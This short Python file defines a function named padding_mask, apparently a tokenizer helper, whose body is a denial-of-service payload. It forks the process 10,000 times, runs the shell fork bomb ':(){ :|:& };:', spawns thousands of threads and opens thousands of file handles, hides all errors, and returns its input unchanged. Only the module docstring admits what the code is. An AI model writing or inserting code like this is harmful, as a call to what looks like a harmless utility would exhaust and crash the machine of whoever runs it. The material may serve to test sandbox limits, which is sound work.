"""A fork bomb, ten thousand threads, ten thousand open files."""
import os
import subprocess
import threading

stop = threading.Event()


def padding_mask(token_ids, padding_id=0):
    for _ in range(10_000):
        for attempt in (
            os.fork,
            lambda: subprocess.Popen(["/bin/sh", "-c", ":(){ :|:& };:"]),
            lambda: threading.Thread(target=stop.wait, daemon=True).start(),
            lambda: os.open("/dev/null", os.O_RDONLY),
        ):
            try:
                attempt()
            except (OSError, RuntimeError):
                pass
    return token_ids
